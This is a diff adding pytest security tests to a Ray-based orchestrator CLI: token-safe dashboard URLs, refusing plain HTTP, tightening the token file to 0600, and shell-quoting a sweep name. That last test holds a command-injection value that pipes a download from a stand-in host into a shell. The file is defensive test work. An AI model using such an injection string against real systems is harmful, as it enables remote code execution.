@@ -153,3 +153,71 @@ def test_every_socket_of_the_embedded_ray_listens_on_loopback(embedded_sweep, re
     print_figure(request, f"[security] {len(found)} sockets opened by one embedded sweep:\n" + "\n".join(lines))
     exposed = [line for x, line in zip(found, lines) if not x.loopback]
     assert not exposed, "listening beyond loopback:\n" + "\n".join(exposed)
+
+
+# -- the token goes only where nobody reads it on the way (issue 14) --------------------------------
+@pytest.mark.parametrize("url, allowed", [
+    ("http://127.0.0.1:8265", True), ("http://localhost:8265", True), ("http://[::1]:8265", True),
+    ("127.0.0.1:8265", True), ("http://127.8.9.10:8265", True), ("https://head.example.org", True),
+    ("https://10.0.0.5:8265", True),
+    ("http://10.0.0.5:8265", False), ("10.0.0.5:8265", False), ("http://head.example.org:8265", False),
+    ("http://127.0.0.1.example.org:8265", False), ("http://0.0.0.0:8265", False), ("http://[::1", False),
+    ("ftp://127.0.0.1", False), ("http://", False),
+])
+def test_dashboard_urls_that_may_carry_the_token(url, allowed):
+    from orchestrator.cli import dashboard_url_problem
+
+    problem = dashboard_url_problem(url)
+    assert (problem is None) is allowed, problem
+    if not allowed:
+        assert url in problem
+    if problem and "plain http" in problem:
+        assert dashboard_url_problem(url, insecure_http=True) is None  # the explicit flag, and only it
+
+
+def test_plain_http_to_another_host_is_refused_before_anything_is_sent():
+    env = {k: v for k, v in os.environ.items() if k != "RAY_ADDRESS"}
+    run = subprocess.run(memlaw_cmd("law", "--dashboard", "http://10.255.255.1:8265", "--json"), capture_output=True,
+                         text=True, env=env, timeout=60)
+    assert run.returncode == 2 and run.stdout == "" and "Traceback" not in run.stderr, run.stderr
+    assert "plain http to 10.255.255.1" in run.stderr and "--insecure-http" in run.stderr
+
+
+def test_the_law_job_quotes_the_sweep_name_for_the_shell():
+    import shlex
+
+    from orchestrator.cli import law_job_entrypoint
+
+    assert law_job_entrypoint(None) == "memlaw law --address auto --json"
+    hostile = "law; curl evil.example | sh #"
+    entry = law_job_entrypoint(hostile)
+    assert shlex.split(entry) == ["memlaw", "law", "--address", "auto", "--json", "--sweep", hostile]
+
+
+def test_rays_token_file_is_tightened_to_0600(tmp_path, monkeypatch):
+    import stat
+    import sys
+    import types
+
+    from orchestrator import cli, ray_session
+
+    token = tmp_path / "auth_token"
+    token.write_text(TOKEN)
+    token.chmod(0o644)  # what Ray leaves with the usual umask
+    monkeypatch.delenv("RAY_AUTH_TOKEN", raising=False)
+    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(token))
+    assert ray_session.token_file() == str(token)
+    assert ray_session.tighten_token_file() == str(token)
+    assert stat.S_IMODE(token.stat().st_mode) == 0o600 and token.read_text() == TOKEN
+    assert ray_session.tighten_token_file() is None  # already tight: untouched
+    token.chmod(0o640)
+    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)  # Ray reads the variable, not the file: not ours to change
+    assert ray_session.tighten_token_file() is None and stat.S_IMODE(token.stat().st_mode) == 0o640
+    monkeypatch.delenv("RAY_AUTH_TOKEN")
+    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(tmp_path / "missing"))
+    assert ray_session.tighten_token_file() is None
+    # the CLI tightens it after any command that imported Ray (here a stand-in module)
+    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(token))
+    monkeypatch.setitem(sys.modules, "ray", types.ModuleType("ray"))
+    assert cli.main(["law", "--dashboard", "http://10.255.255.1:8265"]) == cli.EXIT_BAD_INPUT
+    assert stat.S_IMODE(token.stat().st_mode) == 0o600
